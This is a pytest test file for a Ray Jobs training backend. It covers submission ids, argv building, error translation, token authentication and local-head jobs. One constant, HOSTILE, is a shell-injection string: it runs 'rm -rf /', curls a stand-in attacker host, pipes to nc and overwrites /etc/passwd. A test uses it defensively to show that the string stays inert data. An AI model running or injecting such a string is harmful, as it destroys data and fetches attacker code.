"""The Ray Jobs backend: pure argv/id/error helpers, SDK error translation, and real jobs on a
local Ray head with token authentication on."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import SecretStr

from shared.adapters.compute.ray_jobs import (
    ARGV_ENV,
    ENTRYPOINT,
    RayHttpError,
    RayJobsBackend,
    job_end,
    last_marked,
    latest_checkpoint,
    ray_job_argv,
    readable_error,
    submission_id_for,
)
from shared.composition import build
from shared.contracts.request import ID_RE, Stop, TrainingRequest
from shared.contracts.trainer import JobEnd, trainer_time_budget_s
from shared.errors import PermanentError, TransientError
from shared.localhost import ray_head as heads
from shared.ports import ComputeBackend
from shared.settings import Settings
from tests.ray.conftest import (
    STANDIN_FAIL,
    STANDIN_HANG,
    head_settings,
    make_request,
    terminal,
    wait_for,
)
from tests.support.ray_heads import TestHead
from tests.support.ray_submits import record_submit_jobs, submit_job_calls

HOSTILE = "relu; rm -rf / $(curl http://evil.example/x) `id` | nc evil 1 && echo pwned > /etc/passwd"
SHELL_META = set(";|&$`<>(){}*?!\\'\"\n")


def _settings(tmp_path: Path, **kw: Any) -> Settings:
    return Settings(_env_file=None, data_dir=tmp_path, **kw)  # type: ignore[call-arg]


# --- pure helpers ----------------------------------------------------------------------------


@given(st.from_regex(ID_RE, fullmatch=True))
def test_submission_id_is_deterministic_and_shell_safe(request_id: str) -> None:
    run_id = submission_id_for(request_id)
    assert run_id == submission_id_for(request_id)
    assert run_id.startswith("rlq-")
    assert set(run_id) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-")
    assert len(run_id) <= 4 + 64 + 9


def test_submission_ids_of_ids_that_sanitise_alike_differ() -> None:
    assert submission_id_for("a.b") != submission_id_for("a:b")
    assert submission_id_for("a.b").startswith("rlq-a-b-")


def test_each_attempt_has_its_own_submission_id() -> None:
    first = submission_id_for("r")
    assert submission_id_for("r", 1) == first
    assert submission_id_for("r", 2) == first + "-a2" != submission_id_for("r", 3)


@pytest.mark.parametrize(
    ("state", "code", "message", "end"),
    [
        ("failed", -9, "Job entrypoint command failed with exit code -9", JobEnd.lost),
        ("failed", None, "Job supervisor actor died", JobEnd.lost),
        ("failed", 1, "failed with exit code 1", JobEnd.training_failed),
        ("failed", None, "Failed to set up runtime environment: pip install failed", JobEnd.bad_request),
        ("succeeded", 0, None, JobEnd.stopped),
        ("stopped", None, None, JobEnd.canceled),
        ("running", None, None, None),
    ],
)
def test_how_a_ray_job_ended(state: Any, code: int | None, message: str | None, end: JobEnd | None) -> None:
    assert job_end(state, exit_code=code, message=message) is end


def test_the_latest_checkpoint_is_the_newest_complete_one(tmp_path: Path) -> None:
    for name, iteration in (("iter_000002", 2), ("iter_000004", 4), (".partial-iter_000006", 6)):
        (tmp_path / "checkpoints" / name).mkdir(parents=True)
        meta = {"iteration": iteration, "timesteps": iteration * 100}
        (tmp_path / "checkpoints" / name / "rlq_meta.json").write_text(json.dumps(meta))
    (tmp_path / "checkpoints" / "iter_000008").mkdir()  # no rlq_meta.json: not complete
    found = latest_checkpoint(tmp_path)
    assert found is not None and (found.iteration, found.timesteps) == (4, 400)
    assert found.uri.endswith("/checkpoints/iter_000004")


def test_a_later_attempt_resumes_and_checkpoints_by_time_too() -> None:
    request = TrainingRequest.model_validate({"request_id": "r", "env": "CartPole-v1"})
    first = ray_job_argv(request, output_dir="/runs/r", checkpoint_every_s=60)
    assert first[first.index("--checkpoint-every-s") + 1] == "60" and "--resume" not in first
    assert "--resume" in ray_job_argv(request, output_dir="/runs/r", resume=True)


def test_hostile_request_fields_reach_only_the_argv_json(tmp_path: Path) -> None:
    # Validation refuses these strings; build the request past it to show that, even so, they
    # could only ever reach the trainer as data.
    request = TrainingRequest.model_construct(
        request_id="evil-1",
        experiment="rlq",
        algorithm="IMPALA",
        env="CartPole-v1",
        config={"model": {"fcnet_activation": HOSTILE}, "lr": 0.001},
        stop=Stop(training_iteration=3),
        tags={"note": HOSTILE},
        restore_from=None,
        evaluate=None,
    )
    calls: list[dict[str, Any]] = []

    class Client:
        def get_job_info(self, job_id: str) -> Any:
            raise RayHttpError(404, "not found")

        def submit_job(self, **kwargs: Any) -> str:
            staged = Path(kwargs["runtime_env"]["working_dir"])
            kwargs["staged_files"] = sorted(p.relative_to(staged).as_posix() for p in staged.rglob("*.py"))
            calls.append(kwargs)
            return kwargs["submission_id"]

    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "__init__.py").write_text("")
    (pkg / "train.py").write_text("")
    backend = RayJobsBackend(
        address=None, settings=_settings(tmp_path), client_factory=lambda a, h: Client(), trainer_package=pkg
    )
    run_id = backend.submit(request)

    (call,) = calls
    assert run_id == call["submission_id"] == submission_id_for("evil-1")
    assert call["entrypoint"] == ENTRYPOINT
    assert not set(ENTRYPOINT) & SHELL_META
    assert HOSTILE not in json.dumps(call["metadata"])
    # Only the trainer package is shipped, under the name the entrypoint imports.
    assert call["staged_files"] == ["trainer/__init__.py", "trainer/train.py"]
    argv = json.loads(call["runtime_env"]["env_vars"][ARGV_ENV])
    assert all(isinstance(a, str) for a in argv)
    config = json.loads(argv[argv.index("--config") + 1])
    assert config["model"]["fcnet_activation"] == HOSTILE
    assert [a for a in argv if HOSTILE in a] == [argv[argv.index("--config") + 1]]


@pytest.mark.parametrize(
    ("stop_s", "compute_s", "expected"),
    [
        (None, None, 3600),  # the deployment default
        (None, 600, 600),  # the request's compute cap
        (120, 600, 120),  # the request's own stop, when tighter
        (7200, None, 3600),  # a stop above the default is cut to the default
        (None, 6 * 3600, 4 * 3600),  # never above the deployment cap
    ],
)
def test_every_run_is_bounded(stop_s: int | None, compute_s: int | None, expected: int) -> None:
    stop: dict[str, Any] = {"training_iteration": 5}
    if stop_s:
        stop["time_total_s"] = stop_s
    request = TrainingRequest.model_validate(
        {
            "request_id": "r1",
            "env": "CartPole-v1",
            "stop": stop,
            "compute": {"max_run_duration_s": compute_s} if compute_s else {},
        }
    )
    argv = ray_job_argv(
        request, output_dir="/out/r1", default_run_duration_s=3600, max_run_duration_s=4 * 3600
    )
    assert json.loads(argv[argv.index("--stop") + 1]) == {"training_iteration": 5, "time_total_s": expected}
    budget = trainer_time_budget_s(request, default_run_duration_s=3600, max_run_duration_s=4 * 3600)
    assert budget == expected


def test_argv_carries_restore_evaluate_and_output_dir() -> None:
    request = TrainingRequest.model_validate(
        {
            "request_id": "r2",
            "algorithm": "PPO",
            "env": "CartPole-v1",
            "stop": {"episode_reward_mean": 400},
            "restore_from": "file:///data/runs/r1/checkpoints/final%20copy",
            "evaluate": {"episodes": 3, "gif": True},
        }
    )
    argv = ray_job_argv(request, output_dir="/runs/r2", checkpoint_freq=5)
    assert argv[argv.index("--run") + 1] == "PPO"
    assert argv[argv.index("--env") + 1] == "CartPole-v1"
    assert argv[argv.index("--output-dir") + 1] == "/runs/r2"
    assert argv[argv.index("--checkpoint-freq") + 1] == "5"
    assert argv[argv.index("--restore") + 1] == "/data/runs/r1/checkpoints/final copy"
    assert argv[argv.index("--evaluate-episodes") + 1] == "3"
    assert "--evaluate-gif" in argv


def test_the_champion_is_read_as_a_local_path_and_one_from_elsewhere_is_left_out() -> None:
    def argv(checkpoint: str) -> list[str]:
        champion = {"version": 2, "checkpoint_path": checkpoint}
        request = {"request_id": "r4", "env": "CartPole-v1", "stop": {"training_iteration": 1}}
        return ray_job_argv(
            TrainingRequest.model_validate({**request, "champion": champion}), output_dir="/o"
        )

    here = argv("file:///data/runs/r1/checkpoints/final")
    assert here[here.index("--champion") + 1] == "/data/runs/r1/checkpoints/final"
    assert here[here.index("--champion-version") + 1] == "2"
    elsewhere = argv("azureml://jobs/j/outputs/checkpoints/paths/final")
    assert "--champion" not in elsewhere and "--champion-version" in elsewhere


def test_restore_from_other_schemes_is_refused_naming_the_field() -> None:
    request = TrainingRequest.model_validate(
        {
            "request_id": "r3",
            "env": "CartPole-v1",
            "stop": {"training_iteration": 1},
            "restore_from": "azureml://datastores/x/paths/ckpt",
        }
    )
    with pytest.raises(PermanentError, match="restore_from"):
        ray_job_argv(request, output_dir="/o")


def test_last_marked_takes_the_last_valid_line() -> None:
    logs = (
        'RLQ_METRICS {"iteration": 1}\nnoise\nRLQ_METRICS {"iteration": 2}\nRLQ_METRICS {broken\n'
        'RLQ_SUMMARY {"final_reward": 3.5}\nafter\n'
    )
    assert last_marked(logs, "RLQ_METRICS ") == {"iteration": 2}
    assert last_marked(logs, "RLQ_SUMMARY ") == {"final_reward": 3.5}
    assert last_marked("nothing here", "RLQ_SUMMARY ") is None


def test_readable_error_for_a_killed_process_and_a_traceback() -> None:
    killed = readable_error(
        message="Job entrypoint command failed with exit code -9. No logs available.",
        exit_code=None,
        trainer_error=None,
    )
    assert killed.startswith("the trainer process was killed (SIGKILL")
    tb = (
        "Job entrypoint command failed with exit code 1, last available logs (truncated to 20,000 chars):\n"
        'Traceback (most recent call last):\n  File "x.py", line 3, in <module>\n    boom()\n'
        "RuntimeError: the replay buffer is empty\n"
    )
    assert (
        readable_error(message=tb, exit_code=1, trainer_error=None)
        == "training failed (exit code 1): RuntimeError: the replay buffer is empty"
    )
    assert (
        readable_error(message=tb, exit_code=1, trainer_error="ValueError: lr must be positive")
        == "training failed (exit code 1): ValueError: lr must be positive"
    )
    assert "Traceback" not in readable_error(message=tb, exit_code=None, trainer_error=None)


# --- SDK error translation (a scripted client) ------------------------------------------------


class ScriptedClient:
    """Raises or returns what the test scripts, per method; counts calls."""

    def __init__(self, **script: Any) -> None:
        self.script = script
        self.calls: dict[str, int] = {}

    def __getattr__(self, name: str) -> Any:
        def method(*args: Any, **kwargs: Any) -> Any:
            self.calls[name] = self.calls.get(name, 0) + 1
            outcome = self.script[name]
            if isinstance(outcome, BaseException):
                raise outcome
            return outcome

        return method


def _scripted(tmp_path: Path, client: ScriptedClient, *, token: str | None = None) -> RayJobsBackend:
    settings = _settings(
        tmp_path,
        ray_address="http://ray.example:8265",
        status_timeout_s=5.0,
        ray_auth_token=SecretStr(token) if token else None,
    )
    return RayJobsBackend(
        address=None,
        settings=settings,
        client_factory=lambda a, h: client,
        trainer_package=Path(__file__).parent,
    )


@pytest.mark.parametrize("status", [400, 500])
def test_submit_race_with_another_submitter_returns_the_same_id(tmp_path: Path, status: int) -> None:
    already = RayHttpError(status, "ValueError: Job with submission_id x already exists.")
    client = ScriptedClient(get_job_info=RayHttpError(404, "no such job"), submit_job=already)
    backend = _scripted(tmp_path, client)
    request = make_request()
    assert backend.submit(request) == submission_id_for(request.request_id)


def test_submit_rejected_runtime_env_is_permanent_readable_and_token_free(tmp_path: Path) -> None:
    token = "tok-" + "9" * 40
    text = (
        'Traceback (most recent call last):\n  File "job_head.py", line 2\n'
        f"ValueError: runtime_env field 'pip' is not allowed (header was Bearer {token})"
    )
    backend = _scripted(
        tmp_path,
        ScriptedClient(get_job_info=RayHttpError(404, ""), submit_job=RayHttpError(400, text)),
        token=token,
    )
    with pytest.raises(PermanentError) as caught:
        backend.submit(make_request())
    assert "HTTP 400" in str(caught.value) and "runtime_env field 'pip'" in str(caught.value)
    assert token not in str(caught.value) and "Traceback" not in str(caught.value)


def test_server_errors_are_retried_a_bounded_number_of_times_then_transient(tmp_path: Path) -> None:
    client = ScriptedClient(get_job_info=RayHttpError(503, "busy"))
    backend = _scripted(tmp_path, client)
    with pytest.raises(TransientError, match="HTTP 503"):
        backend.status("rlq-x-00000000")
    assert client.calls["get_job_info"] == 3


def test_find_maps_404_to_none_and_cancel_of_unknown_job_is_quiet(tmp_path: Path) -> None:
    backend = _scripted(
        tmp_path,
        ScriptedClient(
            get_job_info=RayHttpError(404, "Job x does not exist"),
            stop_job=RayHttpError(404, "Job x does not exist"),
        ),
    )
    assert backend.find("nope") is None
    backend.cancel(submission_id_for("nope"))


def test_cancel_asks_the_head_the_service_recorded_not_the_default_port(tmp_path: Path) -> None:
    """``rlq cancel`` builds its own wiring: in local mode it must reach the head ``rlq serve``
    started for this data dir (``ray/head.json``), never whatever Ray answers on port 8265."""
    (tmp_path / "ray").mkdir()
    recorded = {"address": "http://127.0.0.1:18299", "dashboard_port": 18299, "gcs_port": 6390}
    (tmp_path / "ray" / "head.json").write_text(json.dumps({**recorded, "temp_dir": "/tmp/rlq-ray-x"}))
    asked: list[str] = []
    client = ScriptedClient(stop_job=True)

    def factory(address: str, headers: dict[str, str]) -> Any:
        asked.append(address)
        return client

    backend = RayJobsBackend(address=None, settings=_settings(tmp_path), client_factory=factory)
    backend.cancel(submission_id_for("r-1"))
    assert asked == ["http://127.0.0.1:18299"] and client.calls == {"stop_job": 1}
    assert build(_settings(tmp_path, backend="ray")).compute["ray"].address == "http://127.0.0.1:18299"
    (tmp_path / "ray" / "head.json").unlink()  # no head recorded: the address it would start one on
    assert RayJobsBackend(address=None, settings=_settings(tmp_path)).address == "http://127.0.0.1:8265"


def test_a_head_that_stopped_answering_costs_a_tick_one_short_wait(tmp_path: Path) -> None:
    """A Jobs API that takes connections and never answers (a stopped or dying head): with a 1 s
    poll schedule each call gives up after the short floor, not after status_timeout_s (20 s)."""
    import socket

    server = socket.create_server(("127.0.0.1", 0))  # the backlog accepts; nothing ever answers
    try:
        settings = _settings(
            tmp_path, ray_address=f"http://127.0.0.1:{server.getsockname()[1]}", poll_schedule="*/1 * * * * *"
        )
        backend = RayJobsBackend(address=None, settings=settings)
        assert settings.status_timeout_s == 20 and backend.call_timeout_s == 2.0
        t0 = time.monotonic()
        with pytest.raises(TransientError, match=r"unreachable|Timeout|timed out"):
            backend.status(submission_id_for("r-1"))
        assert time.monotonic() - t0 < 2.0 * 3  # one connect and read attempt, within the retry budget
        slow = RayJobsBackend(address=None, settings=_settings(tmp_path, poll_schedule="*/30 * * * * *"))
        assert slow.call_timeout_s == 20.0  # a slower schedule keeps status_timeout_s
    finally:
        server.close()


def test_each_local_head_has_its_own_token_never_the_shared_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from shared.localhost import ray_head as heads

    home = tmp_path / "home"
    (home / ".ray").mkdir(parents=True)
    shared = "s" * 64
    (home / ".ray" / "auth_token").write_text(shared)  # what `ray get-auth-token --generate` leaves
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("RAY_AUTH_TOKEN", "e" * 64)
    a, b = heads.head_token(tmp_path / "a"), heads.head_token(tmp_path / "b")
    values = {a.get_secret_value(), b.get_secret_value()}
    assert len(values) == 2 and not values & {shared, "e" * 64}
    # a data dir keeps its head's token; rlq's own setting still wins
    heads._write_token(heads.local_token_path(tmp_path / "a"), a)
    assert heads.head_token(tmp_path / "a") == a
    assert heads.head_token(tmp_path / "a", "x" * 64).get_secret_value() == "x" * 64
    # and a client of a data dir's head never falls back to the shared file
    assert heads.local_head_token(tmp_path / "c") is None
    assert heads.local_head_token(tmp_path / "a") == a


def test_the_backend_satisfies_the_port(tmp_path: Path) -> None:
    backend = _scripted(tmp_path, ScriptedClient())
    assert isinstance(backend, ComputeBackend)
    assert backend.name == "ray"


# --- a real local head ------------------------------------------------------------------------


@pytest.mark.ray
def test_token_auth_is_on(ray_head: TestHead, monkeypatch: pytest.MonkeyPatch) -> None:
    url = f"{ray_head.address}/api/jobs/"
    assert httpx.get(url, timeout=10).status_code == 401
    assert httpx.get(url, headers=heads.auth_headers(SecretStr("0" * 64)), timeout=10).status_code == 403
    assert httpx.get(url, headers=heads.auth_headers(ray_head.token), timeout=10).status_code == 200
    # The head reads its token from a private file, never from its command line.
    token_file = heads.local_token_path(ray_head.data_dir)
    assert token_file.stat().st_mode & 0o077 == 0
    assert token_file.read_text() == ray_head.token.get_secret_value()

    # Ray's own client without the token is refused too.
    from ray.exceptions import AuthenticationError
    from ray.job_submission import JobSubmissionClient

    for var in (
        "RAY_AUTH_MODE",
        "RAY_AUTH_TOKEN",
        "RAY_AUTH_TOKEN_PATH",
        "RAY_ADDRESS",
        "RAY_API_SERVER_ADDRESS",
    ):
        monkeypatch.delenv(var, raising=False)
    with pytest.raises(AuthenticationError):
        JobSubmissionClient(ray_head.address)


@pytest.mark.ray
def test_a_wrong_token_is_a_transient_error_that_does_not_leak_it(ray_head: TestHead, tmp_path: Path) -> None:
    wrong = "f" * 64
    settings = _settings(tmp_path, ray_auth_token=SecretStr(wrong))
    backend = RayJobsBackend(address=ray_head.address, settings=settings)
    with pytest.raises(TransientError) as caught:
        backend.ensure_compute(make_request())
    assert "RLQ_RAY_AUTH_TOKEN" in str(caught.value)
    assert wrong not in str(caught.value) and wrong not in repr(caught.value.__cause__)


@pytest.mark.ray
def test_real_trainer_job_succeeds_once_with_progress_and_summary(make_backend: Any, tmp_path: Path) -> None:
    train = Path(__file__).resolve().parents[2] / "trainer" / "train.py"
    assert train.exists(), "the real trainer (trainer/train.py) is required"
    backend = make_backend(real_trainer=True)
    request = make_request(config={"num_env_runners": 1}, stop={"training_iteration": 2})
    backend.ensure_compute(request)
    journal = tmp_path / "submit-job-calls.jsonl"
    undo = record_submit_jobs(journal)
    try:
        run_id = backend.submit(request)
        assert backend.submit(request) == run_id  # a redelivered request finds the first job
    finally:
        undo()
    # Ray would refuse a second job with this submission id anyway: count the calls, not the jobs
    assert submit_job_calls(journal) == {run_id: 1}
    assert backend.find(request.request_id) == run_id

    status = wait_for(backend, run_id, terminal, timeout_s=150)
    assert status.state == "succeeded", status.error
    assert status.summary is not None
    assert status.summary.stop_reason == "iterations_limit"
    assert status.summary.iterations == 2
    assert status.progress is not None and status.progress.iteration == 2
    assert status.progress.timesteps > 0
    ckpt = status.summary.checkpoint_path
    assert ckpt.startswith("file://") and Path(ckpt.removeprefix("file://")).is_dir()
    assert status.portal_url == f"{backend.address}/#/jobs/{run_id}"

    from ray.job_submission import JobSubmissionClient

    client = JobSubmissionClient(backend.address, headers=heads.auth_headers(backend._resolve_token()))
    assert [j.submission_id for j in client.list_jobs()].count(run_id) == 1


@pytest.mark.ray
def test_remote_mode_reads_progress_and_summary_from_the_job_logs(make_backend: Any) -> None:
    backend = make_backend(remote=True)
    assert not backend.local
    request = make_request(stop={"training_iteration": 3})
    run_id = backend.submit(request)
    status = wait_for(backend, run_id, terminal)
    assert status.state == "succeeded", status.error
    assert status.progress is not None and status.progress.iteration == 3
    assert status.summary is not None and status.summary.iterations == 3
    # Relative to the job's working dir on the cluster; the summary's path is what counts.
    assert "/outputs/" + request.request_id + "/" in status.summary.checkpoint_path


@pytest.mark.ray
def test_cancel_stops_the_job_and_a_second_cancel_is_harmless(make_backend: Any) -> None:
    backend = make_backend()
    request = make_request(seed=STANDIN_HANG)
    run_id = backend.submit(request)
    running = wait_for(backend, run_id, lambda s: s.progress is not None or terminal(s))
    assert running.state == "running"
    backend.cancel(run_id)
    status = wait_for(backend, run_id, terminal)
    assert status.state == "stopped"
    assert status.summary is not None and status.summary.stop_reason == "canceled"
    backend.cancel(run_id)
    assert backend.status(run_id).state == "stopped"


@pytest.mark.ray
def test_a_sigkilled_trainer_fails_with_a_readable_error(make_backend: Any) -> None:
    backend = make_backend()
    request = make_request(seed=STANDIN_HANG)
    run_id = backend.submit(request)
    wait_for(backend, run_id, lambda s: s.progress is not None or terminal(s))
    pid_file = Path(backend.output_dir_for(request.request_id)) / "pid"
    os.kill(int(pid_file.read_text()), signal.SIGKILL)
    status = wait_for(backend, run_id, terminal)
    assert status.state == "failed"
    assert status.error is not None and status.error.startswith("the trainer process was killed (SIGKILL")
    assert "\n" not in status.error and "Traceback" not in status.error
    assert status.progress is not None and status.progress.iteration >= 1
    assert status.end is JobEnd.lost  # not the trainer's own exit: the run resumes


@pytest.mark.ray
def test_a_training_failure_reports_the_trainers_error(make_backend: Any) -> None:
    backend = make_backend()
    run_id = backend.submit(make_request(seed=STANDIN_FAIL))
    status = wait_for(backend, run_id, terminal)
    assert status.state == "failed"
    assert status.error == "training failed (exit code 1): ValueError: the stand-in was told to fail"
    assert status.end is JobEnd.training_failed  # never retried


@pytest.mark.ray
def test_an_unknown_run_id_is_a_failed_job_with_a_reason(make_backend: Any) -> None:
    status = make_backend().status("rlq-never-submitted-00000000")
    assert status.state == "failed" and "no job rlq-never-submitted-00000000" in (status.error or "")
    assert status.end is JobEnd.lost  # a restarted head forgets its jobs: their runs resume


def test_an_unreachable_head_is_transient_not_a_crash(tmp_path: Path) -> None:
    port = heads.free_port()  # nothing listens there
    backend = RayJobsBackend(
        address=f"http://127.0.0.1:{port}",
        settings=_settings(tmp_path, status_timeout_s=60.0),  # the attempt count bounds it, not time
        retry_attempts=2,
    )
    connects = []
    real_factory = backend._factory
    backend._factory = lambda address, headers: (connects.append(address), real_factory(address, headers))[1]
    for call in (
        lambda: backend.ensure_compute(make_request()),
        lambda: backend.find("r"),
        lambda: backend.status("rlq-r-00000000"),
        lambda: backend.submit(make_request()),
        lambda: backend.cancel("rlq-r-00000000"),
    ):
        with pytest.raises(TransientError, match="unreachable"):
            call()
    # each call tried exactly retry_attempts times (Ray's client connects, and fails, on each), then gave up
    assert len(connects) == 2 * 5


_RACE = textwrap.dedent("""
    import sys
    from pathlib import Path
    from pydantic import SecretStr
    from shared.localhost.ray_head import ensure_local_head
    print(ensure_local_head(data_dir=Path(sys.argv[1]), dashboard_port=int(sys.argv[2]), num_cpus=1,
                            token=SecretStr(sys.argv[3]), object_store_memory_bytes=200 * 1024 * 1024,
                            timeout_s=120))
""")


@pytest.mark.ray
def test_two_processes_starting_the_local_head_at_once_get_one_head(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    port = heads.free_port()
    token = "a" * 64
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAY_")}
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", _RACE, str(data_dir), str(port), token],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(2)
    ]
    try:
        outs = [p.communicate(timeout=150) for p in procs]
        assert [p.returncode for p in procs] == [0, 0], [o[1][-500:] for o in outs]
        assert {o[0].strip() for o in outs} == {f"http://127.0.0.1:{port}"}
        temp_dir = json.loads((data_dir / "ray" / "head.json").read_text())["temp_dir"]
        assert len(_head_pids(temp_dir, "gcs_server")) == 1
        assert heads.probe_dashboard(f"http://127.0.0.1:{port}", SecretStr(token)) == 200
    finally:
        assert heads.stop_local_head(data_dir=data_dir)
    assert _head_pids(temp_dir, "") == []
    assert heads.probe_dashboard(f"http://127.0.0.1:{port}", SecretStr(token)) is None


def _head_pids(temp_dir: str, name: str) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmd = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        text = [c.decode(errors="replace") for c in cmd]
        if any(temp_dir in c for c in text) and (not name or name in (text[0] if text else "")):
            pids.append(int(entry.name))
    return pids


def test_head_settings_point_at_the_session_head_without_starting_one(tmp_path: Path) -> None:
    head = TestHead(
        address="http://127.0.0.1:1", data_dir=tmp_path, dashboard_port=1, token=SecretStr("t" * 64)
    )
    backend = RayJobsBackend(address=None, settings=head_settings(head))
    assert backend.local and backend.address == "http://127.0.0.1:1"
    assert backend.output_dir_for("r.1") == str((tmp_path / "runs" / "r.1").resolve())
